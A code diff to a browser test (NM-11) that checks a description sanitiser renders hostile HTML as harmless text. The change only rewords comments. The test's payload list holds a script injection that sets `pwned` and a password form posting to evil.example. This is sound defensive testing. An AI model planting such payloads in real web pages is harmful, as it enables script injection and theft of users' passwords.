@@ -1,6 +1,6 @@
 import { expect, test } from './site/fixtures.ts';
 
-/** What an edition could bring past its loader's sanitiser; each would set `pwned` or leave a mark in the card. */
+/** Attacks that could pass the loader's sanitiser. Each would set `pwned` or leave a mark in the card. */
 const HOSTILE = [
   'Plain &amp; <strong>bold</strong>,<br>second line',
   '<script>window.pwned = 1</script>',
@@ -14,7 +14,7 @@ const HOSTILE = [
   '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
 ].join('');
 
-/** Refused by the page's policy while parsing; and the socket, which Chromium keeps from a page it did not load itself. */
+/** Errors of the page's policy while parsing, and of the socket, which Chromium refuses to a page that it did not load itself. */
 const REFUSED = /inline event handler|inline style|ERR_BLOCKED_BY_LOCAL_NETWORK_ACCESS_CHECKS/;
 
 test('NM-11 shows a hostile description as harmless text, emphasis and links', async ({ page, complaints }) => {
@@ -32,7 +32,7 @@ test('NM-11 shows a hostile description as harmless text, emphasis and links', a
   await expect(card.locator('strong')).toHaveText('bold');
   await expect(card.locator('br')).toHaveCount(1);
   await expect(card.locator('script, style, svg [onload], iframe, form, input, [onclick], [onerror]')).toHaveCount(0);
-  // The nominee's own logo and site, and the one link that leads to the web.
+  // The nominee's own logo and site, and the one valid link.
   await expect(card.locator('img')).toHaveCount(1);
   await expect(card.getByRole('link')).toHaveText([/kiterook\.example/, 'good link']);
   await expect(card.getByRole('link', { name: 'good link' })).toHaveAttribute('rel', 'noopener noreferrer');
@@ -40,7 +40,7 @@ test('NM-11 shows a hostile description as harmless text, emphasis and links', a
   await expect(card.locator('p', { hasText: 'styled' })).not.toHaveAttribute('style');
   await expect(card.locator('#root, .x')).toHaveCount(0);
   expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
-  // The browser tells of handlers and styles that it would not have run either; nothing else may be wrong.
+  // The browser reports handlers and styles that it refused; there must be no other errors.
   expect(complaints.filter((each) => !REFUSED.test(each))).toEqual([]);
   complaints.length = 0;
 });
